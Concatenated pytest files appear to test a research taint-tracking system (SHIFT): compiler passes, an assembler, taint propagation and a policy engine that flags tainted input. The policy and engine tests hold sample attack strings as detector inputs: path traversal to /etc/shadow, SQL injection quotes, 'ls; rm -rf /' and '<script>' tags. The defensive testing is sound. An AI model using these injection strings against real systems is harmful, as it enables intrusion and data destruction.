"""Baseline-comparator tests: LIFT-style mode and the interpreter model."""

import pytest

from repro.baselines import LIFT_MODE, InterpreterModel, LiftOptions
from repro.baselines.lift import lift_instrument_function
from repro.compiler.codegen import FunctionCode
from repro.compiler.instrument import UNINSTRUMENTED
from repro.cpu.perf import PerfCounters
from repro.isa import parse_instruction
from repro.isa.instruction import Instruction, ROLE_LIFT
from tests.conftest import minic_result, run_minic

PROGRAM = """
int work(int n) {
    int s = 0;
    for (int i = 0; i < n; i++) s += i * 3 - (s >> 2);
    return s;
}
int main() { return work(40) & 0xff; }
"""


class TestLiftPass:
    def _ops(self, lines, options=None):
        items = [parse_instruction(line) for line in lines]
        out = lift_instrument_function(FunctionCode(name="t", items=items), options)
        return [i for i in out.items if isinstance(i, Instruction)]

    def test_alu_gets_shadow_ops(self):
        out = self._ops(["add r14 = r15, r16"])
        lift_ops = [i for i in out if i.role == ROLE_LIFT]
        assert len(lift_ops) == LiftOptions().alu_tag_ops

    def test_load_gets_shadow_lookup(self):
        out = self._ops(["ld8 r14 = [r15]"])
        assert any(i.op == "ld1" and i.role == ROLE_LIFT for i in out)

    def test_store_gets_shadow_update(self):
        out = self._ops(["st8 [r15] = r14"])
        assert any(i.op == "st1" and i.role == ROLE_LIFT for i in out)

    def test_compare_gets_checks(self):
        out = self._ops(["cmp.eq p6, p7 = r14, r15"])
        checks = [i for i in out if i.role == ROLE_LIFT]
        assert len(checks) == LiftOptions().cmp_check_ops

    def test_semantics_preserved(self):
        base = minic_result(PROGRAM, UNINSTRUMENTED, include_libc=False)
        lifted = minic_result(PROGRAM, LIFT_MODE, include_libc=False)
        assert lifted == base

    def test_lift_slower_than_native(self):
        base = run_minic(PROGRAM, UNINSTRUMENTED, include_libc=False)
        lifted = run_minic(PROGRAM, LIFT_MODE, include_libc=False)
        assert lifted.counters.cycles > base.counters.cycles * 1.5

    def test_lift_slower_than_shift(self):
        from tests.conftest import WORD_PERMISSIVE
        shift = run_minic(PROGRAM, WORD_PERMISSIVE, include_libc=False)
        lifted = run_minic(PROGRAM, LIFT_MODE, include_libc=False)
        assert lifted.counters.cycles > shift.counters.cycles


class TestInterpreterModel:
    def _counters(self, instructions=1000, loads=200, stores=100, branches=50):
        counters = PerfCounters()
        counters.instructions = instructions
        counters.loads = loads
        counters.stores = stores
        counters.branches_taken = branches
        counters.issue_cycles = instructions / 3
        return counters

    def test_estimate_scales_with_instructions(self):
        model = InterpreterModel()
        small = model.estimate_cycles(self._counters(instructions=1000))
        big = model.estimate_cycles(self._counters(instructions=10000))
        assert big > small * 5

    def test_slowdown_far_above_shift(self):
        model = InterpreterModel()
        slowdown = model.slowdown(self._counters())
        assert slowdown > 10

    def test_io_time_carries_over(self):
        model = InterpreterModel()
        counters = self._counters()
        counters.add_io_cycles(1_000_000)
        assert model.estimate_cycles(counters) > 1_000_000

    def test_zero_baseline_handled(self):
        assert InterpreterModel().slowdown(PerfCounters()) == 1.0
