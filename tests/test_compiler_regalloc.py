"""Register-allocation invariants."""

from hypothesis import given, settings, strategies as st

from repro.compiler.irgen import IRGenerator
from repro.compiler.parser import parse
from repro.compiler.regalloc import (
    CALLEE_SAVED_POOL,
    CALLER_SAVED_POOL,
    CODEGEN_SCRATCH,
    INSTRUMENTATION_SCRATCH,
    allocate,
    build_intervals,
)


def ir_function(source, name="main"):
    gen = IRGenerator()
    gen.add_unit(parse(source))
    module = gen.finish()
    return next(f for f in module.functions if f.name == name)


SIMPLE = """
int main() {
    int a = 1; int b = 2; int c = a + b;
    return c * a;
}
"""

WITH_CALL = """
int helper(int x) { return x + 1; }
int main() {
    int kept = 10;
    int result = helper(5);
    return kept + result;
}
"""


class TestIntervals:
    def test_every_used_vreg_gets_interval(self):
        irf = ir_function(SIMPLE)
        intervals, _ = build_intervals(irf)
        used = set()
        for instr in irf.body:
            used.update(instr.uses())
            if instr.defines():
                used.add(instr.defines())
        assert {iv.vreg for iv in intervals} == used

    def test_intervals_cover_uses(self):
        irf = ir_function(SIMPLE)
        intervals, _ = build_intervals(irf)
        spans = {iv.vreg: (iv.start, iv.end) for iv in intervals}
        for pos, instr in enumerate(irf.body):
            for vreg in instr.uses():
                start, end = spans[vreg]
                assert start <= pos < end

    def test_call_crossing_detected(self):
        irf = ir_function(WITH_CALL)
        intervals, calls = build_intervals(irf)
        assert calls, "the call must be found"
        crossing = [iv for iv in intervals if iv.crosses_call]
        assert crossing, "`kept` lives across the call"

    def test_loop_carried_value_covers_loop(self):
        irf = ir_function("""
        int main() {
            int s = 0;
            for (int i = 0; i < 4; i++) s += i;
            return s;
        }
        """)
        intervals, _ = build_intervals(irf)
        # Find the loop's backward branch; loop-carried intervals must
        # span past it.
        label_pos = {instr.name: i for i, instr in enumerate(irf.body)
                     if instr.op == "label"}
        back_edges = [i for i, instr in enumerate(irf.body)
                      if instr.op == "br" and label_pos.get(instr.label, i) < i]
        assert back_edges
        covering = [iv for iv in intervals
                    if iv.start < back_edges[-1] < iv.end]
        assert len(covering) >= 2  # both s and i


class TestAllocation:
    def test_no_reserved_registers_used(self):
        for source in (SIMPLE, WITH_CALL):
            allocation = allocate(ir_function(source))
            forbidden = set(INSTRUMENTATION_SCRATCH) | set(CODEGEN_SCRATCH) | {0, 8, 12, 31}
            assert not set(allocation.regs.values()) & forbidden

    def test_call_crossing_values_in_callee_saved_or_spilled(self):
        irf = ir_function(WITH_CALL)
        intervals, _ = build_intervals(irf)
        allocation = allocate(irf)
        for interval in intervals:
            if interval.crosses_call and interval.vreg in allocation.regs:
                assert allocation.regs[interval.vreg] in CALLEE_SAVED_POOL

    def test_overlapping_intervals_distinct_registers(self):
        irf = ir_function(SIMPLE)
        intervals, _ = build_intervals(irf)
        allocation = allocate(irf)
        placed = [iv for iv in intervals if iv.vreg in allocation.regs]
        for i, a in enumerate(placed):
            for b in placed[i + 1:]:
                if a.start < b.end and b.start < a.end:
                    assert allocation.regs[a.vreg] != allocation.regs[b.vreg], \
                        f"{a.vreg} and {b.vreg} overlap in r{allocation.regs[a.vreg]}"

    def test_pressure_causes_spills(self):
        decls = "".join(f"int v{i} = {i};" for i in range(40))
        total = "+".join(f"v{i}" for i in range(40))
        irf = ir_function(f"int main() {{ {decls} return {total}; }}")
        allocation = allocate(irf)
        assert allocation.spill_slot_count > 0

    def test_callee_saved_usage_recorded(self):
        irf = ir_function(WITH_CALL)
        allocation = allocate(irf)
        for reg in allocation.callee_saved_used:
            assert reg in CALLEE_SAVED_POOL


class TestAllocationProperty:
    @settings(max_examples=25, deadline=None)
    @given(st.integers(min_value=2, max_value=24), st.integers(min_value=0, max_value=10))
    def test_random_expression_chains_allocate_consistently(self, n, calls):
        """Programs with varying pressure always allocate without overlap
        conflicts, and spilled + placed covers every interval."""
        decls = "".join(f"int v{i} = {i + 1};" for i in range(n))
        body = decls
        for c in range(calls):
            body += f"v{c % n} = helper(v{(c + 1) % n});"
        total = "+".join(f"v{i}" for i in range(n))
        source = f"""
        int helper(int x) {{ return x; }}
        int main() {{ {body} return {total}; }}
        """
        irf = ir_function(source)
        intervals, _ = build_intervals(irf)
        allocation = allocate(irf)
        for interval in intervals:
            in_reg = interval.vreg in allocation.regs
            in_slot = interval.vreg in allocation.slots
            assert in_reg != in_slot  # exactly one location
        placed = [iv for iv in intervals if iv.vreg in allocation.regs]
        for i, a in enumerate(placed):
            for b in placed[i + 1:]:
                if a.start < b.end and b.start < a.end:
                    assert allocation.regs[a.vreg] != allocation.regs[b.vreg]
