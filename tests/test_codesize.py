"""Code-size accounting tests (Table 3 machinery)."""

from repro.compiler.codesize import CodeSize, expansion_percent, instructions_to_bytes
from repro.core.shift import compile_protected
from repro.compiler.instrument import ShiftOptions, UNINSTRUMENTED

BYTE = ShiftOptions(granularity=1)
WORD = ShiftOptions(granularity=8)

SOURCE = """
int data[32];
int main() {
    int s = 0;
    for (int i = 0; i < 32; i++) { data[i] = i; s += data[i]; }
    return s & 0xff;
}
"""


class TestBundleMath:
    def test_three_per_bundle(self):
        assert instructions_to_bytes(3) == 16
        assert instructions_to_bytes(4) == 32
        assert instructions_to_bytes(6) == 32
        assert instructions_to_bytes(0) == 0

    def test_expansion_percent(self):
        base = CodeSize(instructions=30, bytes=160)
        bigger = CodeSize(instructions=90, bytes=480)
        assert expansion_percent(base, bigger) == 200.0

    def test_codesize_of_compiled(self):
        compiled = compile_protected(SOURCE, UNINSTRUMENTED, include_libc=False)
        size = CodeSize.of(compiled)
        assert size.instructions == compiled.total_instructions
        assert size.bytes == instructions_to_bytes(size.instructions)


class TestExpansionOrdering:
    def test_none_smaller_than_word_smaller_than_byte(self):
        sizes = {}
        for label, options in (("none", UNINSTRUMENTED), ("word", WORD), ("byte", BYTE)):
            compiled = compile_protected(SOURCE, options, include_libc=False)
            sizes[label] = CodeSize.of(compiled).bytes
        assert sizes["none"] < sizes["word"] < sizes["byte"]

    def test_enhancements_shrink_code(self):
        enhanced = ShiftOptions(granularity=1, enh_set_clear=True, enh_nat_cmp=True)
        plain = compile_protected(SOURCE, BYTE, include_libc=False)
        smaller = compile_protected(SOURCE, enhanced, include_libc=False)
        assert CodeSize.of(smaller).bytes < CodeSize.of(plain).bytes
