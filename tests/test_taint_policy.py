"""Policy catalogue and config-file tests (paper Table 1)."""

import pytest

from repro.taint.policy import (
    DEFAULT_ENABLED,
    HIGH_LEVEL_CHECKS,
    POLICY_BY_ID,
    PolicyConfig,
    PolicyConfigError,
    PolicySettings,
    TABLE1,
    USE_POINT_POLICIES,
    format_table1,
    parse_policy_config,
)


def check(policy_id, data, tainted_all=True, settings=None, flags=None):
    if flags is None:
        flags = [tainted_all] * len(data)
    return HIGH_LEVEL_CHECKS[policy_id](data, flags, settings or PolicySettings())


class TestCatalogue:
    def test_eight_policies(self):
        assert len(TABLE1) == 8
        assert set(POLICY_BY_ID) == {"H1", "H2", "H3", "H4", "H5", "L1", "L2", "L3"}

    def test_low_level_defaults_on(self):
        config = PolicyConfig()
        for pid in DEFAULT_ENABLED:
            assert config.is_enabled(pid)
        assert not config.is_enabled("H1")

    def test_use_points_cover_high_level(self):
        covered = {pid for pids in USE_POINT_POLICIES.values() for pid in pids}
        assert covered == {"H1", "H2", "H3", "H4", "H5"}

    def test_format_table1(self):
        text = format_table1()
        assert "H1" in text and "L3" in text
        assert "Directory Traversal" in text


class TestH1:
    def test_tainted_absolute_path(self):
        assert check("H1", b"/etc/passwd") is not None

    def test_untainted_absolute_path_ok(self):
        assert check("H1", b"/etc/passwd", tainted_all=False) is None

    def test_tainted_relative_path_ok(self):
        assert check("H1", b"docs/x.txt") is None

    def test_untainted_prefix_tainted_tail_ok(self):
        flags = [False] * 5 + [True] * 6
        assert check("H1", b"/www/evil.php", flags=flags) is None


class TestH2:
    def test_escape_via_dotdot(self):
        violation = check("H2", b"/www/pages/../../etc/shadow")
        assert violation is not None
        assert violation.policy_id == "H2"

    def test_inside_root_ok(self):
        assert check("H2", b"/www/pages/home") is None

    def test_untainted_escape_ok(self):
        assert check("H2", b"/etc/passwd", tainted_all=False) is None

    def test_custom_document_root(self):
        settings = PolicySettings(document_root="/srv/site")
        assert check("H2", b"/srv/site/a", settings=settings) is None
        assert check("H2", b"/srv/other/a", settings=settings) is not None


class TestH3:
    def test_tainted_quote(self):
        assert check("H3", b"SELECT * FROM t WHERE id='1' OR '1'='1'") is not None

    def test_untainted_query_ok(self):
        assert check("H3", b"SELECT 'x'", tainted_all=False) is None

    def test_tainted_digits_ok(self):
        flags = [c in b"42" for c in b"SELECT * WHERE id = 42"]
        assert check("H3", b"SELECT * WHERE id = 42", flags=flags) is None


class TestH3Boundaries:
    """Direct checker coverage: boundaries, negatives, offsets."""

    def test_offset_reported(self):
        violation = check("H3", b"WHERE k='x")
        assert violation.policy_id == "H3"
        assert violation.offset == 8
        assert "at 8" in violation.message

    def test_first_tainted_metachar_wins(self):
        violation = check("H3", b"a';b'")
        assert violation.offset == 1

    def test_metachar_at_first_byte(self):
        assert check("H3", b"' OR 1").offset == 0

    def test_metachar_at_last_byte(self):
        data = b"SELECT 1;"
        assert check("H3", data).offset == len(data) - 1

    def test_untainted_metachar_between_tainted_bytes(self):
        # The quote itself is clean; only its neighbours are tainted.
        data = b"k='v'"
        flags = [c not in b"'" for c in data]
        assert check("H3", data, flags=flags) is None

    def test_only_the_tainted_metachar_counts(self):
        # Two quotes, only the second tainted: its offset is reported.
        data = b"a'b'c"
        flags = [False, False, False, True, False]
        assert check("H3", data, flags=flags).offset == 3

    def test_every_metachar_fires(self):
        for ch in b"'\";":
            assert check("H3", bytes([ch])) is not None

    def test_flags_shorter_than_data(self):
        # zip() semantics: bytes past the flag vector are not tainted.
        assert check("H3", b"ab'", flags=[True, True]) is None


class TestH4:
    def test_tainted_shell_metachar(self):
        assert check("H4", b"ls; rm -rf /") is not None

    def test_plain_argument_ok(self):
        assert check("H4", b"file.txt") is None

    def test_untainted_pipe_ok(self):
        assert check("H4", b"a | b", tainted_all=False) is None


class TestH4Boundaries:
    def test_offset_and_metachar_reported(self):
        violation = check("H4", b"ls `id`")
        assert violation.offset == 3
        assert "'`'" in violation.message and "at 3" in violation.message

    def test_every_metachar_fires(self):
        for ch in b";|&`$<>":
            violation = check("H4", b"x" + bytes([ch]))
            assert violation is not None and violation.offset == 1

    def test_quote_is_not_a_shell_metachar(self):
        # H4's set differs from H3's: quotes don't fire here.
        assert check("H4", b"echo 'hi'") is None

    def test_untainted_metachar_tainted_text(self):
        data = b"cat x | y"
        flags = [c != ord("|") for c in data]
        assert check("H4", data, flags=flags) is None


class TestH5:
    def test_tainted_script_tag(self):
        assert check("H5", b"<p><script>x()</script></p>") is not None

    def test_case_insensitive(self):
        assert check("H5", b"<ScRiPt>") is not None

    def test_whitespace_variant(self):
        assert check("H5", b"< script>") is not None

    def test_untainted_script_ok(self):
        assert check("H5", b"<script>legit</script>", tainted_all=False) is None

    def test_tainted_text_without_script_ok(self):
        assert check("H5", b"hello <b>world</b>") is None


class TestH5Boundaries:
    def test_offset_is_match_start(self):
        violation = check("H5", b"<p>hi</p><script>")
        assert violation.offset == 9
        assert "offset 9" in violation.message

    def test_one_tainted_byte_inside_tag_fires(self):
        data = b"<script>"
        for i in range(7):   # any byte of the "<script" match
            flags = [j == i for j in range(len(data))]
            assert check("H5", data, flags=flags) is not None

    def test_tainted_byte_after_match_span_ok(self):
        # Taint strictly past the "<script" span: the tag is trusted.
        data = b"<script>x"
        flags = [j >= 7 for j in range(len(data))]
        assert check("H5", data, flags=flags) is None

    def test_second_tag_tainted_reports_its_offset(self):
        data = b"<script>a</script><script>"
        flags = [j >= 18 for j in range(len(data))]
        assert check("H5", data, flags=flags).offset == 18

    def test_whitespace_variant_span_counts(self):
        # "<   script": taint on one of the interior spaces fires.
        data = b"<   script>"
        flags = [data[j] == ord(" ") and j == 2 for j in range(len(data))]
        assert check("H5", data, flags=flags) is not None


class TestConfigParsing:
    def test_full_config(self):
        config = parse_policy_config("""
        [sources]
        network = tainted
        file = trusted

        [policies]
        H1 = on
        H5 = on
        L1 = off

        [settings]
        document_root = /srv/www
        """)
        assert config.source_is_tainted("network")
        assert not config.source_is_tainted("file")
        assert config.is_enabled("H1")
        assert config.is_enabled("H5")
        assert not config.is_enabled("L1")
        assert config.is_enabled("L2")  # default stays
        assert config.settings.document_root == "/srv/www"

    def test_comments_and_blanks(self):
        config = parse_policy_config("# header\n[policies]\nH3 = on # inline\n")
        assert config.is_enabled("H3")

    def test_unknown_section_rejected(self):
        with pytest.raises(PolicyConfigError):
            parse_policy_config("[bogus]\nx = 1\n")

    def test_unknown_policy_rejected(self):
        with pytest.raises(PolicyConfigError):
            parse_policy_config("[policies]\nH9 = on\n")

    def test_key_outside_section_rejected(self):
        with pytest.raises(PolicyConfigError):
            parse_policy_config("x = 1\n")

    def test_enable_disable_api(self):
        config = PolicyConfig().enable("H1", "H2").disable("L3")
        assert config.is_enabled("H1") and config.is_enabled("H2")
        assert not config.is_enabled("L3")
        with pytest.raises(ValueError):
            config.enable("H9")
