"""End-to-end taint propagation through instrumented guests.

These tests exercise the whole SHIFT mechanism: taint sources mark the
bitmap, instrumented loads lift taint into NaT bits, the processor
propagates NaT through computation, and instrumented stores write it
back to the bitmap.
"""

import pytest

from tests.conftest import BYTE_STRICT, WORD_STRICT, run_minic

READ = "native int read(int fd, char *buf, int n);\n"
IS_TAINTED = "native int is_tainted(char *p);\n"


def spans(machine, symbol, length):
    return list(machine.taint_map.tainted_spans(machine.address_of(symbol), length))


class TestSources:
    def test_stdin_read_marks_bitmap(self):
        m = run_minic(READ + """
        char buf[32];
        int main() { return read(0, buf, 32); }
        """, BYTE_STRICT, stdin=b"abcdef")
        assert spans(m, "buf", 32) == [(0, 6)]

    def test_trusted_source_leaves_bitmap_clean(self):
        from repro.taint.policy import PolicyConfig
        config = PolicyConfig()
        config.tainted_sources["stdin"] = False
        m = run_minic(READ + """
        char buf[32];
        int main() { return read(0, buf, 32); }
        """, BYTE_STRICT, stdin=b"abcdef", policy_config=config)
        assert spans(m, "buf", 32) == []

    def test_file_read_marks_bitmap(self):
        m = run_minic("""
        native int open(char *p, int f);
        native int read(int fd, char *buf, int n);
        char buf[32];
        int main() { int fd = open("/d", 0); return read(fd, buf, 32); }
        """, BYTE_STRICT, files={"/d": b"12345678"})
        assert spans(m, "buf", 32) == [(0, 8)]

    def test_taint_region_native(self):
        m = run_minic("""
        native void taint_region(char *p, int n);
        char buf[16];
        int main() { taint_region(buf + 4, 4); return 0; }
        """, BYTE_STRICT)
        assert spans(m, "buf", 16) == [(4, 4)]


class TestExplicitPropagation:
    COPY = READ + """
    char src[32];
    char dst[32];
    int main() {
        read(0, src, 16);
        for (int i = 0; i < 16; i++) dst[i] = src[i];
        return 0;
    }
    """

    def test_byte_copy_propagates_byte_level(self):
        m = run_minic(self.COPY, BYTE_STRICT, stdin=b"0123456789abcdef")
        assert spans(m, "dst", 32) == [(0, 16)]

    def test_byte_copy_propagates_word_level(self):
        m = run_minic(self.COPY, WORD_STRICT, stdin=b"0123456789abcdef")
        assert spans(m, "dst", 32) == [(0, 16)]

    def test_arithmetic_propagates(self):
        m = run_minic(READ + """
        char src[16];
        int out;
        int main() {
            read(0, src, 8);
            int x = src[0] + src[1] * 3;
            out = x ^ 0x55;
            return 0;
        }
        """, BYTE_STRICT, stdin=b"zz")
        assert m.taint_map.is_tainted(m.address_of("out"))

    def test_constant_store_clears_taint(self):
        m = run_minic(READ + """
        char src[16];
        int main() {
            read(0, src, 8);
            src[2] = 'x';
            return 0;
        }
        """, BYTE_STRICT, stdin=b"AAAAAAAA")
        assert spans(m, "src", 8) == [(0, 2), (3, 5)]

    def test_partial_read_taints_only_received(self):
        m = run_minic(READ + """
        char src[32];
        char dst[32];
        int main() {
            int n = read(0, src, 32);
            for (int i = 0; i < 32; i++) dst[i] = src[i];
            return n;
        }
        """, BYTE_STRICT, stdin=b"abc")
        assert spans(m, "dst", 32) == [(0, 3)]

    def test_int_load_store_propagates(self):
        m = run_minic(READ + """
        char src[16];
        int words[4];
        int main() {
            read(0, src, 16);
            int *p = (int *)src;
            words[1] = *p + 1;
            return 0;
        }
        """, BYTE_STRICT, stdin=b"0123456789abcdef")
        assert m.taint_map.is_tainted(m.address_of("words") + 8)
        assert not m.taint_map.is_tainted(m.address_of("words"))


class TestLibcPropagation:
    def test_strcpy_propagates(self):
        m = run_minic(READ + """
        char src[32];
        char dst[32];
        int main() {
            read(0, src, 12);
            strcpy(dst, src);
            return 0;
        }
        """, BYTE_STRICT, stdin=b"tainted data")
        assert spans(m, "dst", 12) == [(0, 12)]

    def test_strcat_preserves_untainted_prefix(self):
        m = run_minic(READ + """
        char src[32];
        char dst[64];
        int main() {
            read(0, src, 8);
            strcpy(dst, "prefix: ");
            strcat(dst, src);
            return 0;
        }
        """, BYTE_STRICT, stdin=b"12345678")
        assert spans(m, "dst", 24) == [(8, 8)]

    def test_format_str_propagates_string_arg(self):
        m = run_minic(READ + """
        char src[32];
        char out[64];
        int main() {
            read(0, src, 6);
            format_str(out, "v=%s;", (int)src, 0, 0, 0);
            return 0;
        }
        """, BYTE_STRICT, stdin=b"abcdef")
        assert spans(m, "out", 16) == [(2, 6)]

    def test_atoi_result_tainted(self):
        m = run_minic(READ + IS_TAINTED + """
        char src[16];
        int value;
        int main() {
            read(0, src, 8);
            value = atoi(src);
            return is_tainted((char *)&value);
        }
        """, BYTE_STRICT, stdin=b"1234")
        assert m.exit_code == 1
        assert m.read_global("value") == 1234


class TestWrapFunctions:
    def test_memcpy_native_summary(self):
        m = run_minic(READ + """
        native char *memcpy(char *d, char *s, int n);
        char src[32];
        char dst[32];
        int main() {
            read(0, src, 10);
            memcpy(dst, src + 2, 8);
            return 0;
        }
        """, BYTE_STRICT, stdin=b"0123456789")
        assert spans(m, "dst", 32) == [(0, 8)]

    def test_memset_clears_taint(self):
        m = run_minic(READ + """
        native char *memset(char *d, int c, int n);
        char src[32];
        int main() {
            read(0, src, 16);
            memset(src, 0, 8);
            return 0;
        }
        """, BYTE_STRICT, stdin=b"0123456789abcdef")
        assert spans(m, "src", 16) == [(8, 8)]


class TestRegisterTaintAcrossCalls:
    def test_taint_survives_callee_saved_spill(self):
        """A tainted value held across a call keeps its NaT via
        st8.spill/ld8.fill and ar.unat (the compiler's save discipline)."""
        m = run_minic(READ + IS_TAINTED + """
        char src[16];
        int out;
        int noisy(int n) {
            int a = 1; int b = 2; int c = 3; int d = 4;
            return a + b + c + d + n;
        }
        int main() {
            read(0, src, 8);
            int held = src[0] + 100;
            int other = noisy(5);
            out = held + other;
            return is_tainted((char *)&out);
        }
        """, BYTE_STRICT, stdin=b"Q")
        assert m.exit_code == 1


class TestWordLevelImprecision:
    def test_word_level_spreads_within_word(self):
        m = run_minic(READ + """
        char src[16];
        int main() { read(0, src, 2); return 0; }
        """, WORD_STRICT, stdin=b"ab")
        # Two tainted bytes taint their whole 8-byte word.
        assert spans(m, "src", 16) == [(0, 8)]

    def test_word_level_untainted_substore_wipes_word(self):
        """The paper's Fig. 5 word update trades precision for speed: a
        clean sub-word store clears the whole word's tag."""
        m = run_minic(READ + """
        char src[16];
        int main() {
            read(0, src, 8);
            src[7] = 'x';
            return 0;
        }
        """, WORD_STRICT, stdin=b"AAAAAAAA")
        assert spans(m, "src", 16) == []
