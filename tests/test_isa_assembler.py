"""Tests for the assembler and instruction model."""

import pytest

from repro.isa import (
    AssemblerError,
    GR,
    Instruction,
    OpKind,
    PR,
    assemble,
    parse_instruction,
    parse_reg,
)
from repro.isa.operands import RegClass


class TestParseReg:
    def test_general_register(self):
        reg = parse_reg("r14")
        assert reg.cls is RegClass.GR
        assert reg.index == 14

    def test_predicate_register(self):
        assert parse_reg("p6") == PR(6)

    def test_branch_register(self):
        assert parse_reg("b0").cls is RegClass.BR

    def test_unat(self):
        assert parse_reg("ar.unat").cls is RegClass.AR

    def test_out_of_range(self):
        with pytest.raises(ValueError):
            parse_reg("r128")

    def test_garbage(self):
        with pytest.raises(ValueError):
            parse_reg("q3")


class TestParseInstruction:
    def test_alu_three_operand(self):
        instr = parse_instruction("add r14 = r15, r16")
        assert instr.op == "add"
        assert instr.outs == (GR(14),)
        assert instr.ins == (GR(15), GR(16))

    def test_adds_immediate(self):
        instr = parse_instruction("adds r12 = -16, r12")
        assert instr.imm == -16
        assert instr.ins == (GR(12),)

    def test_movl(self):
        instr = parse_instruction("movl r14 = 0x123456789abcdef")
        assert instr.op == "movl"
        assert instr.imm == 0x123456789ABCDEF

    def test_mov_gr(self):
        instr = parse_instruction("mov r14 = r15")
        assert instr.op == "mov"

    def test_mov_to_branch(self):
        instr = parse_instruction("mov b6 = r14")
        assert instr.op == "mov.tobr"

    def test_mov_from_branch(self):
        instr = parse_instruction("mov r14 = b0")
        assert instr.op == "mov.frombr"

    def test_mov_unat(self):
        assert parse_instruction("mov ar.unat = r2").op == "mov.toar"
        assert parse_instruction("mov r2 = ar.unat").op == "mov.fromar"

    def test_load(self):
        instr = parse_instruction("ld8 r14 = [r13]")
        assert instr.kind is OpKind.LOAD
        assert instr.access_size == 8
        assert instr.ins == (GR(13),)

    def test_speculative_load(self):
        assert parse_instruction("ld8.s r14 = [r13]").op == "ld8.s"

    def test_store(self):
        instr = parse_instruction("st8 [r12] = r15")
        assert instr.kind is OpKind.STORE
        assert instr.ins == (GR(12), GR(15))

    def test_compare(self):
        instr = parse_instruction("cmp.eq p6, p7 = r14, r15")
        assert instr.outs == (PR(6), PR(7))

    def test_compare_immediate(self):
        instr = parse_instruction("cmp.lt p6, p7 = r14, 10")
        assert instr.imm == 10

    def test_taint_aware_compare(self):
        assert parse_instruction("tcmp.eq p6, p7 = r14, r15").op == "tcmp.eq"

    def test_tnat(self):
        instr = parse_instruction("tnat p6, p7 = r14")
        assert instr.ins == (GR(14),)

    def test_predicated(self):
        instr = parse_instruction("(p6) add r14 = r15, r16")
        assert instr.qp == 6

    def test_branch(self):
        instr = parse_instruction("br.cond loop")
        assert instr.target == "loop"

    def test_call(self):
        instr = parse_instruction("br.call b0 = strcpy")
        assert instr.op == "br.call"
        assert instr.target == "strcpy"

    def test_indirect_call(self):
        instr = parse_instruction("br.call b0 = b6")
        assert instr.op == "br.call.ind"

    def test_return(self):
        instr = parse_instruction("br.ret b0")
        assert instr.op == "br.ret"

    def test_chk(self):
        instr = parse_instruction("chk.s r15, recovery")
        assert instr.ins == (GR(15),)
        assert instr.target == "recovery"

    def test_break(self):
        assert parse_instruction("break 0x100000").imm == 0x100000

    def test_settag(self):
        instr = parse_instruction("settag r14")
        assert instr.outs == (GR(14),)

    def test_unknown_opcode(self):
        with pytest.raises(ValueError):
            parse_instruction("frobnicate r1 = r2")


class TestAssembleProgram:
    def test_function_and_labels(self):
        program = assemble(
            """
            func main:
                movl r14 = 5
            loop:
                adds r14 = -1, r14
                cmp.ne p6, p7 = r14, r0
                (p6) br.cond loop
                br.ret b0
            endfunc
            """
        )
        assert "main" in program.functions
        assert program.labels["loop"] == 1
        assert len(program.code) == 5

    def test_data_directive(self):
        program = assemble(
            """
            data greeting, 16, "hi\\n"
            func main:
                nop
            endfunc
            """
        )
        item = program.data[0]
        assert item.name == "greeting"
        assert item.size == 16
        assert item.init == b"hi\n"

    def test_native_directive(self):
        program = assemble(
            """
            native memcpy
            func main:
                br.call b0 = memcpy
            endfunc
            """
        )
        assert program.natives == ["memcpy"]

    def test_undefined_target_rejected(self):
        with pytest.raises(ValueError):
            assemble(
                """
                func main:
                    br.cond nowhere
                endfunc
                """
            )

    def test_duplicate_label_rejected(self):
        with pytest.raises(Exception):
            assemble(
                """
                func main:
                x:
                x:
                    nop
                endfunc
                """
            )

    def test_comments_ignored(self):
        program = assemble(
            """
            func main:
                nop  // a comment
                nop  ; another
            endfunc
            """
        )
        assert len(program.code) == 2

    def test_listing_roundtrip(self):
        text = """
        func main:
            movl r14 = 7
            st8 [r12] = r14
            br.ret b0
        endfunc
        """
        program = assemble(text)
        listing = program.listing()
        assert "movl r14 = 7" in listing
        assert "main:" in listing


class TestInstructionStr:
    def test_alu_str(self):
        assert str(parse_instruction("add r1 = r2, r3")) == "add r1 = r2, r3"

    def test_predicated_str(self):
        text = str(parse_instruction("(p6) mov r1 = r2"))
        assert text.startswith("(p6) ")

    def test_with_role(self):
        instr = parse_instruction("add r1 = r2, r3").with_role("tag_compute", "load")
        assert instr.role == "tag_compute"
        assert instr.origin == "load"
