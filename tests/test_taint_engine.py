"""Policy-engine tests: fault mapping, use points, record vs raise."""

import pytest

from repro.cpu.faults import NaTConsumptionFault
from repro.mem.address import make_address
from repro.mem.memory import SparseMemory
from repro.taint.bitmap import TaintMap
from repro.taint.engine import PolicyEngine, SecurityAlert
from repro.taint.policy import PolicyConfig


def make_engine(mode="raise", **enables):
    memory = SparseMemory()
    tmap = TaintMap(memory, 1)
    config = PolicyConfig()
    for pid, on in enables.items():
        (config.enable if on else config.disable)(pid)
    return PolicyEngine(config, tmap, mode=mode), tmap


def put(tmap, text, offset=0x2000):
    addr = make_address(2, offset)
    tmap.memory.write_bytes(addr, text)
    return addr


class TestFaultMapping:
    def test_load_addr_fault_is_l1(self):
        engine, _ = make_engine()
        with pytest.raises(SecurityAlert) as excinfo:
            engine.on_fault(None, NaTConsumptionFault("load_addr"))
        assert excinfo.value.policy_id == "L1"

    def test_store_addr_fault_is_l2(self):
        engine, _ = make_engine()
        with pytest.raises(SecurityAlert) as excinfo:
            engine.on_fault(None, NaTConsumptionFault("store_addr"))
        assert excinfo.value.policy_id == "L2"

    def test_branch_move_fault_is_l3(self):
        engine, _ = make_engine()
        with pytest.raises(SecurityAlert) as excinfo:
            engine.on_fault(None, NaTConsumptionFault("branch_move"))
        assert excinfo.value.policy_id == "L3"

    def test_disabled_policy_ignores_fault(self):
        engine, _ = make_engine(L1=False)
        engine.on_fault(None, NaTConsumptionFault("load_addr"))
        assert not engine.alerts

    def test_non_nat_fault_ignored(self):
        from repro.cpu.faults import IllegalInstructionFault
        engine, _ = make_engine()
        engine.on_fault(None, IllegalInstructionFault("x"))
        assert not engine.alerts


class TestUsePoints:
    def test_fopen_h1(self):
        engine, tmap = make_engine(H1=True)
        addr = put(tmap, b"/etc/passwd")
        tmap.set_range(addr, 11, True)
        with pytest.raises(SecurityAlert) as excinfo:
            engine.check_use_point("fopen", addr, b"/etc/passwd")
        assert excinfo.value.policy_id == "H1"

    def test_untainted_data_skips_checks(self):
        engine, tmap = make_engine(H1=True)
        addr = put(tmap, b"/etc/passwd")
        engine.check_use_point("fopen", addr, b"/etc/passwd")
        assert not engine.alerts

    def test_sql_h3(self):
        engine, tmap = make_engine(H3=True)
        query = b"SELECT * FROM t WHERE x = '1' OR ''='"
        addr = put(tmap, query)
